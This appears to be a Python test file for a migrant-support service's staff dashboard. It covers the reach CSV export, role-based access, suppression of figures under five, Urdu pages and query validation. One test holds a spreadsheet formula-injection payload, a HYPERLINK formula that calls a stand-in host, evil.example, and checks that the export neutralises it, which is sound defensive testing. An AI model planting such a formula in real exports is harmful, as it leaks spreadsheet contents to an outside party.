"""Impact by source and district on the dashboard, and a changemaker's own figures: who sees
what, the CSV, and that a changemaker's page holds nothing personal."""

import csv
import io

import pytest
from sqlmodel import select

from api.main import create_app
from bot.casework.referrals import Status
from bot.casework.staff import Role, Staff
from bot.db import session_scope
from bot.outreach.reach_figures import COUNTS
from tests.api.staff_helpers import browser, login, make_staff, signed_in
from tests.bot.reach_helpers import (
    DEC,
    NOV,
    ask,
    check_licence,
    complain,
    hold_session,
    make_person,
    make_source,
)

PERIOD = {"start": "2026-11-01", "end": "2026-12-31"}
PHONE = "+923217654321"
BODY = "mera agent paise le kar bhaag gaya Sialkot se"
FEWER = "fewer than 5"


@pytest.fixture
def app(settings, bot, db, tmp_path):
    settings.evidence_dir = tmp_path / "evidence"
    return create_app(settings, bot)


def csv_of(client, **query) -> list[dict[str, str]]:
    response = client.get("/staff/impact/reach.csv", params={**PERIOD, **query})
    assert response.status_code == 200, response.text
    return list(csv.DictReader(io.StringIO(response.text)))


def changemaker(app, db, email: str):
    """A changemaker's account, signed in (no queue to read a CSRF token from)."""
    staff_id = make_staff(db, email, role=Role.CHANGEMAKER)
    client = browser(app)
    assert login(client, email).status_code == 303
    return client, staff_id


def test_reach_csv_one_row_per_month_source_district_with_every_figure(app, db):
    make_staff(db, "sup@mrc.example", role=Role.SUPERVISOR)
    source = make_source(db, "SKT1")
    nov = make_person(db, source=source, district="sialkot")
    make_person(db, source=source, district="gujrat", at=DEC)
    ask(db, nov, "ask_fees")
    ask(db, nov, "job_request")
    complain(db, nov, status=Status.RESOLVED)
    hold_session(db, source, attendees=30)
    client, _ = signed_in(app, "sup@mrc.example")
    rows = csv_of(client)
    assert list(rows[0])[:6] == ["month", "source_code", "source_name", "source_kind",
                                 "changemaker", "district"]
    assert set(COUNTS) | {"questions_ask_fees", "questions_other"} <= set(rows[0])
    by_cell = {(r["month"], r["source_code"], r["district"]): r for r in rows}
    assert set(by_cell) == {("2026-11", "SKT1", "sialkot"), ("2026-12", "SKT1", "gujrat")}
    november = by_cell[("2026-11", "SKT1", "sialkot")]
    assert (november["people"], november["questions"], november["questions_ask_fees"],
            november["complaints"], november["resolved"], november["sessions"],
            november["attendees"]) == ("1", "2", "1", "1", "1", "1", "30")


def test_reach_csv_district_typed_as_a_formula_stays_text(app, db):
    make_staff(db, "sup@mrc.example", role=Role.SUPERVISOR)
    person = make_person(db, source=make_source(db, "SKT1"))
    formula = '=HYPERLINK("http://evil.example?"&A1,"click")'
    complain(db, person, district=formula)
    client, _ = signed_in(app, "sup@mrc.example")
    response = client.get("/staff/impact/reach.csv", params=PERIOD)
    assert "'" + formula.replace('"', '""') in response.text
    assert "\n" + formula not in response.text and "," + formula not in response.text


def test_reach_page_shows_totals_and_charts_to_a_supervisor(app, db):
    make_staff(db, "sup@mrc.example", role=Role.SUPERVISOR)
    make_person(db, source=make_source(db, "SKT1"))
    make_person(db)
    client, _ = signed_in(app, "sup@mrc.example")
    page = client.get("/staff/impact/reach", params=PERIOD)
    assert page.status_code == 200
    assert '<tr id="total-row"><td>2</td>' in page.text
    assert 'data-source="SKT1"' in page.text and 'data-source="direct"' in page.text
    assert "<svg" in page.text and "<script" not in page.text


def test_reach_page_in_urdu(app, db):
    make_staff(db, "sup@mrc.example", role=Role.SUPERVISOR)
    client, csrf = signed_in(app, "sup@mrc.example")
    client.post("/staff/language", data={"csrf_token": csrf, "ui_language": "ur"})
    page = client.get("/staff/impact/reach")
    assert page.status_code == 200 and "ذریعے اور ضلع کے لحاظ سے" in page.text


def test_changemaker_sees_their_counts_and_nothing_personal(app, db):
    client, me = changemaker(app, db, "shazia@cm.example")
    source = make_source(db, "SKT1", owner=me)
    person = make_person(db, source=source, phone=PHONE)
    ask(db, person, "ask_fees", body=BODY)
    check_licence(db, person)
    reference = complain(db, person, status=Status.RESOLVED, callback_phone=PHONE,
                         agent_name="Ravi Manpower", description=BODY)
    page = client.get("/staff/changemaker", params=PERIOD)
    assert page.status_code == 200
    assert 'id="people">1<' in page.text  # a count of people alone: exact, even 1
    for figure in ("questions", "licence-checks", "complaints", "resolved",
                   "checkins-answered"):
        assert f'id="{figure}">{FEWER}<' in page.text
        assert f'id="{figure}">1<' not in page.text and f'id="{figure}">0<' not in page.text
    assert "Fees" not in page.text  # the one topic they asked about is not named
    for personal in (PHONE, PHONE[-7:], BODY, reference, "Ravi Manpower"):
        assert personal not in page.text
    assert 'href="/staff/changemaker/refer"' in page.text


def test_changemaker_sees_a_figure_of_five_or_more(app, db):
    client, me = changemaker(app, db, "shazia@cm.example")
    source = make_source(db, "SKT1", owner=me)
    for _ in range(6):
        complain(db, make_person(db, source=source), status=Status.RESOLVED)
    page = client.get("/staff/changemaker", params=PERIOD).text
    assert 'id="complaints">6<' in page and 'id="resolved">6<' in page
    assert 'id="people">6<' in page


def test_changemaker_one_day_period_is_widened_to_its_month(app, db):
    client, me = changemaker(app, db, "shazia@cm.example")
    source = make_source(db, "SKT1", owner=me)
    make_person(db, source=source, at=NOV)  # 10 November
    make_person(db, source=source, at=NOV.replace(day=28))
    make_person(db, source=source, at=DEC)  # another month: not counted
    page = client.get("/staff/changemaker",
                      params={"start": "2026-11-28", "end": "2026-11-28"}).text
    assert 'name="start" value="2026-11-01"' in page
    assert 'name="end" value="2026-11-30"' in page
    assert 'id="people">2<' in page
    assert 'id="months-note"' in page and "whole calendar months" in page


def test_changemaker_small_topics_grouped_and_months_chart_counts_people_only(app, db):
    client, me = changemaker(app, db, "shazia@cm.example")
    source = make_source(db, "SKT1", owner=me)
    people = [make_person(db, source=source) for _ in range(7)]
    for intent, n in (("ask_fees", 7), ("ask_contract", 6), ("ask_visa", 5),
                      ("ask_protector", 1)):
        for person in people[:n]:
            ask(db, person, intent)
    topics = client.get("/staff/changemaker", params=PERIOD).text.split('id="topics"')[1]
    topics = topics.split("</div>")[0]
    assert ">Fees<" in topics and ">7<" in topics and ">Contract<" in topics
    # Protector's 1 would be total minus the rest: Visas (5) is grouped with it, as 6.
    assert "Protector" not in topics and "Visas" not in topics
    assert ">Other topics (grouped, so no topic shows fewer than 5)<" in topics
    assert ">6<" in topics and ">1<" not in topics and ">5<" not in topics


def test_changemaker_one_source_cannot_be_subtracted_from_all(app, db):
    client, me = changemaker(app, db, "shazia@cm.example")
    many, one = make_source(db, "SKT1", owner=me), make_source(db, "SKT2", owner=me)
    for _ in range(6):
        complain(db, make_person(db, source=many))
    complain(db, make_person(db, source=one))
    everything = client.get("/staff/changemaker", params=PERIOD).text
    assert 'id="complaints">7<' in everything
    for code in ("SKT1", "SKT2"):  # shown, SKT1's 6 would give SKT2's 1 away (7 - 6)
        row = everything.split(f'<tr data-source="{code}">')[1].split("</tr>")[0]
        cells = [c.split("</td>")[0] for c in row.split("<td>")[1:]]
        # source, people, sessions, questions, licence checks, complaints, resolved, ...
        assert cells[5] == FEWER
    alone = client.get("/staff/changemaker", params={**PERIOD, "source": "SKT1"}).text
    assert f'id="complaints">{FEWER}<' in alone


def test_changemaker_page_in_urdu_says_fewer_than_five(app, db):
    client, me = changemaker(app, db, "shazia@cm.example")
    complain(db, make_person(db, source=make_source(db, "SKT1", owner=me)))
    with session_scope(db) as session:
        session.exec(select(Staff).where(Staff.id == me)).one().ui_language = "ur"
    page = client.get("/staff/changemaker", params=PERIOD).text
    assert 'id="complaints">5 سے کم<' in page and "پورے کیلنڈر مہینوں" in page


def test_supervisors_reach_page_still_shows_small_figures_exactly(app, db):
    make_staff(db, "sup@mrc.example", role=Role.SUPERVISOR)
    complain(db, make_person(db, source=make_source(db, "SKT1")), status=Status.RESOLVED)
    client, _ = signed_in(app, "sup@mrc.example")
    page = client.get("/staff/impact/reach",
                      params={"start": "2026-11-10", "end": "2026-11-10"}).text
    row = page.split('<tr id="total-row">')[1].split("</tr>")[0]
    cells = [c.split("</td>")[0].strip() for c in row.split("<td>")[1:]]
    # people, sessions, attendees, questions, licence checks, complaints, resolved, ...
    assert cells[:7] == ["1", "0", "0", "0", "0", "1", "1"]
    assert FEWER not in page and 'name="start" value="2026-11-10"' in page


def test_changemaker_not_counted_another_changemakers_people(app, db):
    client, me = changemaker(app, db, "shazia@cm.example")
    other = make_staff(db, "bilal@cm.example", role=Role.CHANGEMAKER)
    make_person(db, source=make_source(db, "SKT1", owner=me))
    make_person(db, source=make_source(db, "GRW1", owner=other))
    make_person(db, source=make_source(db, "GRW1B", owner=other))
    page = client.get("/staff/changemaker", params=PERIOD).text
    assert 'id="people">1<' in page and "GRW1" not in page


def test_changemaker_cannot_open_another_changemakers_source(app, db):
    client, _ = changemaker(app, db, "shazia@cm.example")
    other = make_staff(db, "bilal@cm.example", role=Role.CHANGEMAKER)
    make_source(db, "GRW1", owner=other)
    response = client.get("/staff/changemaker", params={**PERIOD, "source": "GRW1"})
    assert response.status_code == 404


@pytest.mark.parametrize("path", ["/staff/impact/reach", "/staff/impact/reach.csv",
                                  "/staff/impact"])
def test_changemaker_cannot_open_the_impact_pages(app, db, path):
    client, _ = changemaker(app, db, "shazia@cm.example")
    assert client.get(path).status_code == 403


def test_reach_changemaker_page_refused_to_other_roles(app, db):
    make_staff(db, "ayesha@mrc.example")
    client, _ = signed_in(app, "ayesha@mrc.example")
    assert client.get("/staff/changemaker").status_code == 403


def test_reach_caseworker_sees_only_their_centres_sources(app, db):
    make_staff(db, "ayesha@mrc.example", centre="mrc-lahore")
    make_person(db, source=make_source(db, "LHR1", centre="mrc-lahore"))
    make_person(db, source=make_source(db, "ISB1", centre="mrc-islamabad"))
    make_person(db)  # came directly: no centre's
    client, _ = signed_in(app, "ayesha@mrc.example")
    page = client.get("/staff/impact/reach", params=PERIOD).text
    assert "LHR1" in page and "ISB1" not in page
    assert '<tr id="total-row"><td>1</td>' in page
    assert {r["source_code"] for r in csv_of(client)} == {"LHR1"}
    assert client.get("/staff/impact/reach.csv",
                      params={**PERIOD, "source": "ISB1"}).status_code == 404
    assert client.get("/staff/impact/reach.csv",
                      params={**PERIOD, "source": "direct"}).status_code == 404


@pytest.mark.parametrize("query", [{"start": "abc"}, {"start": "2026-12-01", "end": "2026-11-01"},
                                   {"district": "sial\x00kot"}, {"district": "d" * 101},
                                   {"source": "S" * 13}])
@pytest.mark.parametrize("page", ["/staff/impact/reach", "/staff/impact/reach.csv"])
def test_reach_bad_query_refused_with_its_reason(app, db, page, query):
    make_staff(db, "sup@mrc.example", role=Role.SUPERVISOR)
    client, _ = signed_in(app, "sup@mrc.example")
    response = client.get(page, params=query)
    assert response.status_code == 400
    assert response.json()["detail"].startswith(("start", "district", "source"))
